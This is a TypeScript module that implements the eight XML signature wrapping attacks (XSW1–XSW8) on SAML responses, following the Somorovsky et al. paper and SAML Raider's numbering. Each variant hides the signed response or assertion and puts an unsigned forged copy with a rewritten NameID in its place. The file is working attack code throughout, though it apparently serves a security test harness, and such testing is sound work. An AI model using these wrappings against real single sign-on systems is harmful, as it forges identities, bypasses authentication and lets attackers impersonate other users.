/**
 * The eight forms of XML signature wrapping against SAML (Somorovsky et al., "On Breaking SAML", 2012; numbered as SAML Raider does):
 * the signed part is moved to where nobody looks, and an unsigned evil copy takes its place.
 */
import { DOMParser, type Document, type Element, XMLSerializer } from '@xmldom/xmldom';

const DSIG = 'http://www.w3.org/2000/09/xmldsig#';

interface Wrapped {
  readonly document: Document;
  readonly response: Element;
  readonly assertion: Element;
}

/** What the evil part claims. */
export interface Evil {
  readonly find: string;
  readonly replace: string;
}

export interface Wrapping {
  readonly name: string;
  /** Wraps the signature of the response, not that of the assertion. */
  readonly ofResponse?: true;
  readonly wrap: (parts: Wrapped, evil: Evil) => void;
}

function only(root: Element | Document, name: string): Element {
  const element = root.getElementsByTagNameNS('*', name)[0];
  if (element === undefined) throw new Error(`there is no ${name}`);
  return element;
}

function signatureOf(element: Element): Element {
  const found = [...element.childNodes].find((node) => node.nodeName === 'ds:Signature');
  if (found === undefined) throw new Error(`${element.localName} has no signature`);
  return found as Element;
}

function cloneOf(element: Element): Element {
  return element.cloneNode(true) as Element;
}

function withoutSignature(element: Element): Element {
  element.removeChild(signatureOf(element));
  return element;
}

/** Bends the NameID that stands first in an element. */
function corrupt(element: Element, { find, replace }: Evil): Element {
  const nameId = only(element, 'NameID');
  nameId.textContent = (nameId.textContent ?? '').replace(find, replace);
  return element;
}

function renamed(element: Element): Element {
  element.setAttribute('ID', '_evil');
  return element;
}

export const WRAPPINGS: readonly Wrapping[] = [
  {
    name: 'XSW1: the signed response inside the signature of an evil one',
    ofResponse: true,
    wrap({ response }, evil) {
      const original = withoutSignature(cloneOf(response));
      signatureOf(response).appendChild(original);
      corrupt(renamed(response), evil);
    },
  },
  {
    name: 'XSW2: the signed response before the signature of an evil one',
    ofResponse: true,
    wrap({ response }, evil) {
      const original = withoutSignature(cloneOf(response));
      const place = signatureOf(response);
      corrupt(renamed(response), evil);
      response.insertBefore(original, place);
    },
  },
  {
    name: 'XSW3: an evil assertion before the signed one',
    wrap({ response, assertion }, evil) {
      response.insertBefore(corrupt(renamed(withoutSignature(cloneOf(assertion))), evil), assertion);
    },
  },
  {
    name: 'XSW4: the signed assertion inside an evil one',
    wrap({ response, assertion }, evil) {
      const bad = corrupt(renamed(withoutSignature(cloneOf(assertion))), evil);
      response.replaceChild(bad, assertion);
      bad.appendChild(assertion);
    },
  },
  {
    name: 'XSW5: an evil assertion with the signature, the signed one behind it',
    wrap({ response, assertion }, evil) {
      const original = withoutSignature(cloneOf(assertion));
      corrupt(renamed(assertion), evil);
      response.appendChild(original);
    },
  },
  {
    name: 'XSW6: the signed assertion inside the signature of an evil one',
    wrap({ assertion }, evil) {
      const original = withoutSignature(cloneOf(assertion));
      corrupt(renamed(assertion), evil);
      signatureOf(assertion).appendChild(original);
    },
  },
  {
    name: 'XSW7: an evil assertion inside extensions',
    wrap({ document, response, assertion }, evil) {
      const extensions = document.createElementNS('urn:oasis:names:tc:SAML:2.0:protocol', 'samlp:Extensions');
      extensions.appendChild(corrupt(withoutSignature(cloneOf(assertion)), evil));
      response.insertBefore(extensions, assertion);
    },
  },
  {
    name: 'XSW8: the signed assertion in an object of the signature of an evil one',
    wrap({ document, assertion }, evil) {
      const original = withoutSignature(cloneOf(assertion));
      corrupt(renamed(assertion), evil);
      const object = document.createElementNS(DSIG, 'ds:Object');
      object.appendChild(original);
      signatureOf(assertion).appendChild(object);
    },
  },
];

/** @param wrap undefined: the document as it was, through the same parser and writer */
export function wrapSignature(xml: string, wrap: Wrapping['wrap'] | undefined, evil: Evil): string {
  const document = new DOMParser().parseFromString(xml, 'text/xml');
  const response = only(document, 'Response');
  wrap?.({ document, response, assertion: only(document, 'Assertion') }, evil);
  return new XMLSerializer().serializeToString(document);
}
